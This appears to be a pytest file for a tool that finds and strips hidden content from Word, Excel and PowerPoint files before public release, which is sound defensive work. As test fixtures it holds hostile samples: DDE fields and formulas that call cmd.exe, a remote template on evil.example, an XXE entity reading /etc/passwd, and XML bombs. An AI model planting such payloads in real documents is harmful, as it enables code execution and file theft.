"""docx, xlsx and pptx: what is unseen in them is told, and the copy that is released has none of it."""

import re
import zipfile

import docx
import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName

from gongkai.errors import Refused, Unreadable
from gongkai.vetting.files import cleaned, scan
from tests.vetting.files import made


def codes(path):
    return {trace.code for trace in scan(path).traces}


def word_with(tmp_path, xml):
    return made.without_properties(made.word(tmp_path / "a.docx", lambda document: made.written(document, xml)))


def sheet_with(tmp_path, change):
    return made.without_properties(made.sheet(tmp_path / "a.xlsx", change))


def test_a_plain_document_holds_nothing_unseen(tmp_path):
    assert scan(made.without_properties(made.word(tmp_path / "a.docx"))).traces == ()
    assert scan(made.without_properties(made.sheet(tmp_path / "a.xlsx"))).traces == ()


def test_all_words_are_read_cells_apart(tmp_path):
    assert scan(made.word(tmp_path / "a.docx")).text == "白石镇低保公示\n王某\t110105"
    assert scan(made.sheet(tmp_path / "a.xlsx")).text == "名单\n姓名\t电话\t金额\n王某\t13800138000\t300\n李某\t200"


@pytest.mark.parametrize(
    ("xml", "code"),
    [
        ('<w:ins w:id="1" w:author="李"><w:r><w:t>密</w:t></w:r></w:ins>', "tracked_changes"),
        ('<w:del w:id="1" w:author="李"><w:r><w:delText>密</w:delText></w:r></w:del>', "tracked_changes"),
        ("<w:r><w:rPr><w:vanish/></w:rPr><w:t>密</w:t></w:r>", "hidden_text"),
        ('<w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:t>密</w:t></w:r>', "unseen_text"),
        ('<w:r><w:rPr><w:sz w:val="2"/></w:rPr><w:t>密</w:t></w:r>', "unseen_text"),
        ("<w:r><w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText></w:r>", "dde"),
        ("<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E x</w:instrText></w:r>", "dde"),
        ('<w:fldSimple w:instr="INCLUDEPICTURE https://x.example/a.png"/>', "external_content"),
    ],
)
def test_what_is_unseen_in_a_document_is_told_and_its_words_are_read(tmp_path, xml, code):
    path = word_with(tmp_path, xml)
    assert codes(path) == {code}
    assert "密" not in xml or "密" in scan(path).text


@pytest.mark.parametrize(
    "xml",
    [
        '<w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>明</w:t></w:r>',
        '<w:r><w:rPr><w:color w:val="FFFFFF"/><w:shd w:fill="1F4E79"/></w:rPr><w:t>明</w:t></w:r>',
        '<w:r><w:rPr><w:color w:val="FEFEFE"/><w:sz w:val="5"/></w:rPr><w:t>明</w:t></w:r>',
        "<w:pPr><w:rPr><w:vanish/></w:rPr></w:pPr><w:r><w:t>明</w:t></w:r>",
        "<w:r><w:instrText> PAGE </w:instrText></w:r>",
    ],
)
def test_what_can_be_seen_is_left_alone(tmp_path, xml):
    assert codes(word_with(tmp_path, xml)) == set()


def test_the_copy_of_a_document_has_no_author_no_comments_and_the_same_words(tmp_path):
    def comment(document):
        run = document.paragraphs[0].runs[0]
        document.add_comment(run, text="请领导再看看13800138000", author="李某", initials="李")

    path = made.word(tmp_path / "a.docx", comment, author="李某")
    found = scan(path)
    assert {trace.code for trace in found.traces} >= {"properties", "comments"}
    assert "13800138000" in found.text
    result = cleaned(path, tmp_path / "b.docx")
    assert {trace.code for trace in result.removed} == {trace.code for trace in found.traces}
    assert result.remains == ()
    again = scan(tmp_path / "b.docx")
    assert again.traces == ()
    assert again.text == "白石镇低保公示\n王某\t110105"
    assert docx.Document(str(tmp_path / "b.docx")).paragraphs[0].text == "白石镇低保公示"
    with zipfile.ZipFile(tmp_path / "b.docx") as copy:
        assert not any("李某".encode() in copy.read(name) for name in copy.namelist())
        for name in ("[Content_Types].xml", "word/document.xml", "word/_rels/document.xml.rels"):
            assert not re.search(rb"<w:comment|comments(?:Extended)?\.xml", copy.read(name))


def test_a_copy_of_what_has_nothing_to_remove_is_the_same_file(tmp_path):
    path = made.without_properties(made.word(tmp_path / "a.docx"))
    cleaned(path, tmp_path / "b.docx")
    assert (tmp_path / "b.docx").read_bytes() == path.read_bytes()


def test_tracked_changes_are_for_a_person_to_settle(tmp_path):
    path = word_with(tmp_path, "<w:ins><w:r><w:t>密</w:t></w:r></w:ins>")
    with pytest.raises(Refused) as refused:
        cleaned(path, tmp_path / "b.docx", confirmed={"tracked_changes"})
    assert refused.value.details == ("修订痕迹：请在 Word“审阅”里接受或拒绝全部修订。",)
    assert not (tmp_path / "b.docx").exists()


def test_a_remote_template_is_told_and_taken_out(tmp_path):
    relation = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )

    def attach(name, data):
        office = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        head = b'<w:attachedTemplate xmlns:r="' + office + b'" r:id="rId1"/>'
        return data.replace(b"</w:settings>", head + b"</w:settings>") if name == "word/settings.xml" else data

    path = made.without_properties(made.word(tmp_path / "a.docx"))
    made.repacked(path, attach, **{"word/_rels/settings.xml.rels": relation})
    [trace] = scan(path).traces
    assert (trace.code, trace.where, trace.is_active) == ("remote_template", ("evil.example",), True)
    cleaned(path, tmp_path / "b.docx")
    assert scan(tmp_path / "b.docx").traces == ()
    with zipfile.ZipFile(tmp_path / "b.docx") as copy:
        assert b"evil" not in copy.read("word/_rels/settings.xml.rels")
        assert b"attachedTemplate" not in copy.read("word/settings.xml")


def test_the_names_of_reviewers_go_with_the_properties(tmp_path):
    people = '<w15:people xmlns:w15="urn:w15"><w15:person w15:author="李某"/></w15:people>'.encode()
    path = made.without_properties(made.word(tmp_path / "a.docx"))
    assert codes(made.repacked(path, lambda name, data: data, **{"word/people.xml": people})) == {"properties"}
    cleaned(path, tmp_path / "b.docx")
    assert codes(tmp_path / "b.docx") == set()


@pytest.mark.parametrize(
    ("part", "code"),
    [
        ("word/vbaProject.bin", "macros"),
        ("word/embeddings/oleObject1.bin", "embedded_files"),
        ("word/embeddings/Microsoft_Excel_Sheet1.xlsx", "embedded_files"),
        ("word/activeX/activeX1.xml", "macros"),
        ("docProps/thumbnail.jpeg", "thumbnail"),
    ],
)
def test_parts_that_act_or_hide_are_told(tmp_path, part, code):
    path = made.without_properties(made.word(tmp_path / "a.docx"))
    assert codes(made.repacked(path, lambda name, data: data, **{part: b"<a/>"})) == {code}


def test_a_photograph_in_a_document_loses_its_position(tmp_path):
    photo = made.jpeg(tmp_path / "p.jpg", position=True, camera="Phone")
    path = made.without_properties(made.word(tmp_path / "a.docx", lambda document: document.add_picture(str(photo))))
    assert codes(path) == {"picture_position", "picture_details"}
    cleaned(path, tmp_path / "b.docx")
    assert codes(tmp_path / "b.docx") == set()
    assert len(docx.Document(str(tmp_path / "b.docx")).inline_shapes) == 1


def hide_sheet(state):
    def hide(book):
        book.create_sheet("底稿").append(["密"])
        book["底稿"].sheet_state = state

    return hide


def hide_row(book):
    book.active.row_dimensions[2].hidden = True


def hide_column(book):
    book.active.column_dimensions["B"].hidden = True


def silence(book):
    book.active["B2"].number_format = ";;;"


def whiten(book):
    book.active["B2"].font = Font(color="FFFFFFFF")


def name(book):
    book.defined_names["秘密"] = DefinedName("秘密", attr_text="名单!$A$1", hidden=True)


def comment(book):
    book.active["B2"].comment = Comment("13900139000", "李某")


def call(book):
    book.active["C3"] = "=cmd|'/c calc'!A0"


@pytest.mark.parametrize(
    ("change", "code", "where"),
    [
        (hide_sheet("hidden"), "hidden_sheets", ("底稿",)),
        (hide_sheet("veryHidden"), "hidden_sheets", ("底稿",)),
        (hide_row, "hidden_rows", ("名单",)),
        (hide_column, "hidden_columns", ("名单",)),
        (silence, "unseen_text", ("名单",)),
        (whiten, "unseen_text", ("名单",)),
        (name, "hidden_names", ("秘密",)),
        (comment, "sheet_comments", ()),
        (call, "dde", ("名单",)),
    ],
)
def test_what_is_unseen_in_a_workbook_is_told(tmp_path, change, code, where):
    [trace] = scan(sheet_with(tmp_path, change)).traces
    assert (trace.code, trace.where) == (code, where)


def test_words_of_hidden_sheets_and_comments_are_read(tmp_path):
    assert "\f底稿\n密" in scan(sheet_with(tmp_path, hide_sheet("hidden"))).text
    assert "13900139000" in scan(sheet_with(tmp_path, comment)).text


def test_rows_and_columns_without_anything_in_them_hide_nothing(tmp_path):
    def hide_empty(book):
        book.active.row_dimensions[9].hidden = True
        book.active.column_dimensions["Z"].hidden = True

    assert scan(sheet_with(tmp_path, hide_empty)).traces == ()


def test_hidden_sheets_are_released_only_when_a_person_said_so(tmp_path):
    path = made.sheet(tmp_path / "a.xlsx", hide_sheet("hidden"), author="李某")
    with pytest.raises(Refused, match="没有生成公开的副本"):
        cleaned(path, tmp_path / "b.xlsx")
    result = cleaned(path, tmp_path / "b.xlsx", confirmed={"hidden_sheets"})
    assert [trace.code for trace in result.removed] == ["properties"]
    assert [trace.code for trace in result.remains] == ["hidden_sheets"]
    assert codes(tmp_path / "b.xlsx") == {"hidden_sheets"}
    assert openpyxl.load_workbook(tmp_path / "b.xlsx")["名单"]["B2"].value == 13800138000


def test_numbers_in_scientific_notation_are_written_out(tmp_path):
    path = made.repacked(
        made.sheet(tmp_path / "a.xlsx"), lambda name, data: data.replace(b"<v>13800138000</v>", b"<v>1.3800138E10</v>")
    )
    assert "13800138000" in scan(path).text


def test_external_links_pivot_caches_and_connections_are_told(tmp_path):
    link = b'<externalLink xmlns="x"><externalBook/></externalLink>'
    dde = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    parts = {
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/externalLink2.xml": dde,
        "xl/pivotCache/pivotCacheRecords1.xml": b"<a/>",
        "xl/connections.xml": b"<a/>",
        "xl/embeddings/o.bin": b"x",
    }
    path = made.repacked(sheet_with(tmp_path, lambda book: None), lambda name, data: data, **parts)
    assert codes(path) == {"external_workbooks", "dde", "pivot_cache", "data_connections", "embedded_files"}


def slides(tmp_path, *, show="1", notes=""):
    a = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="urn:p"'
    words = "<a:p><a:r><a:t>{}</a:t></a:r></a:p>"
    path = tmp_path / "a.pptx"
    with zipfile.ZipFile(path, "w") as made_up:
        made_up.writestr("[Content_Types].xml", "<Types/>")
        for number in (10, 2):
            hidden = show if number == 10 else "1"
            made_up.writestr(
                f"ppt/slides/slide{number}.xml", f'<p:sld {a} show="{hidden}">{words.format(f"第{number}张")}</p:sld>'
            )
        made_up.writestr(
            "ppt/slides/_rels/slide2.xml.rels",
            '<Relationships xmlns="urn:r"><Relationship Id="1" Type="urn:r/notesSlide" '
            'Target="../notesSlides/notesSlide1.xml"/></Relationships>',
        )
        field = "<a:p><a:fld><a:t>2</a:t></a:fld></a:p>"
        made_up.writestr("ppt/notesSlides/notesSlide1.xml", f"<p:notes {a}>{words.format(notes)}{field}</p:notes>")
    return path


def test_slides_are_read_in_order_and_hidden_ones_and_notes_told(tmp_path):
    plain = scan(slides(tmp_path))
    assert (plain.pages, plain.text, plain.traces) == (2, "第2张\n2\f第10张", ())
    assert codes(slides(tmp_path, show="0")) == {"hidden_slides"}
    assert codes(slides(tmp_path, notes="讲稿")) == {"slide_notes"}


def test_an_entity_is_never_resolved(tmp_path):
    def declare(name, data):
        head = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
        return head + data.partition(b"?>")[2] if name == "word/document.xml" else data

    with pytest.raises(Unreadable, match="DTD"):
        scan(made.repacked(made.word(tmp_path / "a.docx"), declare))


@pytest.mark.parametrize(
    "bomb",
    [
        b"<a>" * 1_000_000,
        b"<a " + b"b" * 5_000_000 + b"='1'/>",
        b"<a " + b" ".join(b'a%d="1"' % number for number in range(400_000)) + b"/>",
        b"0" * 150_000_000,
    ],
    ids=["depth", "tag", "attributes", "ratio"],
)
def test_a_bomb_is_refused(tmp_path, bomb):
    path = made.repacked(
        made.word(tmp_path / "a.docx"), lambda name, data: bomb if name == "word/document.xml" else data
    )
    with pytest.raises(Unreadable):
        scan(path)


def test_two_parts_of_one_name_are_refused(tmp_path):
    path = made.word(tmp_path / "a.docx")
    with zipfile.ZipFile(path, "a") as packed, pytest.warns(UserWarning, match="Duplicate"):
        packed.writestr("word/document.xml", "<a/>")
    with pytest.raises(Unreadable):
        scan(path)


@pytest.mark.parametrize("cut", [30, 500, 5000, -30])
def test_a_damaged_document_is_unreadable_and_nothing_worse(tmp_path, cut):
    path = made.word(tmp_path / "a.docx")
    path.write_bytes(path.read_bytes()[:cut])
    with pytest.raises(Unreadable):
        scan(path)
